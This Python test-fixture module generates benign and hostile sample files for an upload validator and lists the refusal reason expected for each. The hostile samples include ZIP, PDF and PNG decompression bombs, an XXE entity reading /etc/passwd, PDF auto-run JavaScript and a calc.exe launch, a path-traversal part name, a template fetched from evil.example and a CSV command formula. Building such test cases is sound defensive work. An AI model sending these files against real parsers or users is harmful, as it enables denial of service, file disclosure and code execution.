"""Files as people send them, good and bad, made when they are needed."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BODY = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>'
CORE = '<c:coreProperties xmlns:c="x"><creator>Amara Okafor</creator></c:coreProperties>'


def package(parts: dict[str, bytes | str], *, level: int | None = None) -> bytes:
    """A ZIP file of these parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zipped:
        for name, content in parts.items():
            zipped.writestr(name, content)
    return made.getvalue()


def links(*rows: tuple[str, str, str]) -> str:
    """Relationships of a part: (type, target, mode)."""
    inside = "".join(
        f'<Relationship Id="r{number}" Type="{OFFICE}/{kind}" Target="{target}"'
        f"{f' TargetMode={mode!r}' if mode else ''}/>"
        for number, (kind, target, mode) in enumerate(rows)
    )
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inside}</Relationships>'
    )


def office(main: str = WORD, part: str = "word/document.xml", **more: bytes | str) -> bytes:
    """An office document; `more` are other parts, with __ for a slash and _ for a dot."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{main}"/>'
        '<Override PartName="/docProps/core.xml" ContentType="application/core-properties+xml"/>'
        "</Types>"
    )
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": types,
        "_rels/.rels": links(("officeDocument", part, ""), ("metadata/core-properties", "docProps/core.xml", "")),
        "docProps/core.xml": CORE,
        part: BODY,
    }
    return package(parts | {name.replace("__", "/").replace("_", "."): what for name, what in more.items()})


def opendocument(content: str = "<text/>", **more: bytes | str) -> bytes:
    """An OpenDocument text."""
    parts: dict[str, bytes | str] = {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": content,
        "meta.xml": "<meta>Amara Okafor</meta>",
        "META-INF/manifest.xml": "<m:manifest xmlns:m='urn:oasis:names:tc:opendocument:xmlns:manifest:1.0'/>",
    }
    return package(parts | {name.replace("__", "/").replace("_", "."): what for name, what in more.items()})


def picture(form: str = "JPEG", size: tuple[int, int] = (60, 40), **how: object) -> bytes:
    """A picture with a place and a camera in it."""
    drawn = Image.new("RGB", size, "#2a6049")
    details = Image.Exif()
    details[0x010F] = "Camera of Amara"
    details.get_ifd(0x8825)[2] = (51.0, 30.0, 0.0)
    made = io.BytesIO()
    drawn.save(made, form, exif=details, **how)
    return made.getvalue()


def pdf(**root: object) -> bytes:
    """A PDF of one page that says who made it."""
    made = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.docinfo["/Author"] = "Amara Okafor"
        with document.open_metadata() as about:
            about["dc:creator"] = ["Amara Okafor"]
        for key, value in root.items():
            document.Root[f"/{key}"] = value
        document.save(made)
    return made.getvalue()


def locked_pdf() -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(made, encryption=pikepdf.Encryption(owner="less", user="bad"))
    return made.getvalue()


def pdf_bomb(megabytes: int = 400) -> bytes:
    """A PDF whose list of objects unpacks to far more than it is."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"5 0 <</A 1>>")
    for _ in range(megabytes):
        packed += packer.compress(b" " * 1_000_000)
    packed += packer.flush()
    out, at = io.BytesIO(), {}
    out.write(b"%PDF-1.5\n")
    for number, body in {
        1: b"<</Type/Catalog/Pages 2 0 R/X 5 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1 1]>>",
        4: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%b\nendstream" % (len(packed), packed),
    }.items():
        at[number] = out.tell()
        out.write(b"%d 0 obj\n%b\nendobj\n" % (number, body))
    here = out.tell()
    rows = [(0, 0, 65535), *((1, at[number], 0) for number in (1, 2, 3, 4)), (2, 4, 0), (1, here, 0)]
    table = b"".join(bytes([kind]) + where.to_bytes(4, "big") + which.to_bytes(2, "big") for kind, where, which in rows)
    out.write(b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(table))
    out.write(table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % here)
    return out.getvalue()


def png_bomb(side: int = 30_000) -> bytes:
    """A PNG that says that it is a wall, in a few bytes."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def zip_bomb(megabytes: int = 50) -> bytes:
    """A Word document with a part of spaces: 42 kB that unpack to a hundred times and more."""
    return office(word__more_xml=BODY + " " * megabytes * 1_000_000)


def overlapping_zip_bomb(parts: int = 900) -> bytes:
    """A ZIP whose list names the same packed bytes again and again, so that no single part looks large."""
    kernel = zlib.compress(b" " * 1_000_000, 9)[2:-4]
    crc = zlib.crc32(b" " * 1_000_000)
    name = b"[Content_Types].xml"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 33, crc, len(kernel), 1_000_000, len(name), 0) + name
    listed = b""
    for number in range(parts):
        each = b"word/%03d.xml" % number if number else name
        listed += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50, 20, 20, 0, 8, 0, 33, crc, len(kernel), 1_000_000, len(each), 0, 0, 0, 0, 0, 0,
        ) + each  # fmt: skip
    body = local + kernel
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, parts, parts, len(listed), len(body), 0)
    return body + listed + end


#: The virus that every scanner knows, and that harms nobody.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

GIF_AND_SCRIPT = b"GIF89a/*" + bytes(9) + b"*/=1;x()"

GOOD = {
    "leaflet.pdf": pdf,
    "protocol.docx": office,
    "rota.xlsx": lambda: office(SHEET, "xl/workbook.xml"),
    "talk.pptx": lambda: office(SLIDES, "ppt/presentation.xml"),
    "letter.odt": opendocument,
    "ward.jpg": picture,
    "phone.JPEG": picture,
    "screen.png": lambda: picture("PNG"),
    "web.webp": lambda: picture("WEBP"),
    "notes.txt": lambda: "Ring between 2 and 6 pm.\nTel. <02> – “ask”\n".encode(),
    "waits.csv": lambda: "day,minutes,change\n1,50,-3\n2,12,+4\n3,£1.50,07700 900123\n".encode("cp1252"),
}

_DOCTYPE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_LAUNCH = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
_SCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")

#: What is refused: the name it comes by, its bytes, and a part of the words that say why.
BAD = {
    "an empty file": ("nothing.pdf", bytes, "is empty"),
    "a program": ("run.exe", lambda: b"MZ" + bytes(200), "no file of this kind"),
    "a program named as a PDF": ("run.pdf", lambda: b"MZ" + bytes(200), "not a PDF"),
    "a web page": ("page.html", lambda: b"<html><script>x()</script>", "no file of this kind"),
    "a web page named as text": ("page.txt", lambda: b"Hello <script>x()</script>", "web page"),
    "a drawing in code named as a PNG": ("photo.png", lambda: b"<svg onload='x()'/>", "not a PNG"),
    "a drawing in code": ("photo.svg", lambda: b"<svg onload='x()'/>", "no file of this kind"),
    "a GIF that is a script too": ("photo.gif", lambda: GIF_AND_SCRIPT, "no file of this kind"),
    "a GIF that is a script too, named as a JPG": (
        "photo.jpg",
        lambda: GIF_AND_SCRIPT,
        "not a JPG",
    ),
    "a PDF that is a web page too": ("leaflet.pdf", lambda: b"<html><!--" + pdf(), "not a PDF"),
    "a picture of nearly nothing that claims to be a wall": ("wall.png", png_bomb, "too many dots"),
    "a picture that ends half-way": ("half.jpg", lambda: picture(size=(900, 900))[:700], "cannot be read"),
    "a ZIP bomb": ("bomb.docx", zip_bomb, "unpacks to far more"),
    "a ZIP bomb whose parts overlap": ("bomb.xlsx", overlapping_zip_bomb, "unpacks to far more"),
    "a ZIP in a ZIP": ("nested.docx", lambda: office(word__more_zip=office()), "another file inside"),
    "a document with a part outside": ("out.docx", lambda: office(**{"..__..__etc__cron_xml": BODY}), "cannot be read"),
    "a document with macros": ("macro.docx", lambda: office(word__vbaProject_bin=b"\xd0\xcf"), "has macros"),
    "a document of a kind with macros": ("macro.docx", lambda: office(MACROS), "has macros"),
    "a document that fetches its template": (
        "far.docx",
        lambda: office(word___rels__document_xml_rels=links(("attachedTemplate", "http://evil.example/t", "External"))),
        "fetches something",
    ),
    "a document with an entity from outside": ("xxe.docx", lambda: office(word__more_xml=_DOCTYPE + "<x/>"), "unpacks"),
    "a document with a file inside": ("ole.pptx", lambda: office(SLIDES, ppt__embeddings__a_bin=b"x"), "another file"),
    "a sheet named as a document": ("rota.docx", lambda: office(SHEET), "not a Word document"),
    "an old Word file": ("old.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "older kind"),
    "an OpenDocument text with macros": ("letter.odt", lambda: opendocument(Basic__a_xml="<x/>"), "has macros"),
    "an OpenDocument text that fetches a picture": (
        "letter.odt",
        lambda: opendocument(
            "<d:image xmlns:d='d' xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='http://x/'/>"
        ),
        "fetches something",
    ),
    "a PDF that runs a script": ("run.pdf", lambda: pdf(OpenAction=_SCRIPT), "runs by itself"),
    "a PDF that starts a program": ("run.pdf", lambda: pdf(OpenAction=_LAUNCH), "runs by itself"),
    "a PDF with a file inside": (
        "hide.pdf",
        lambda: pdf(Names=pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array()))),
        "another file inside",
    ),
    "a PDF with a password": ("locked.pdf", locked_pdf, "locked with a password"),
    "a PDF that unpacks to more than there is": ("bomb.pdf", pdf_bomb, "cannot be read"),
    "noise named as a text": ("noise.txt", lambda: bytes(range(256)) * 4, "not a text"),
    "a table with a formula": ("sums.csv", lambda: b"name,sum\nA,=cmd|' /C calc'!A0\n", "has a formula"),
    "more than 10 MB": ("large.txt", lambda: b"a" * (10 * 1024 * 1024 + 1), "larger than 10 MB"),
}
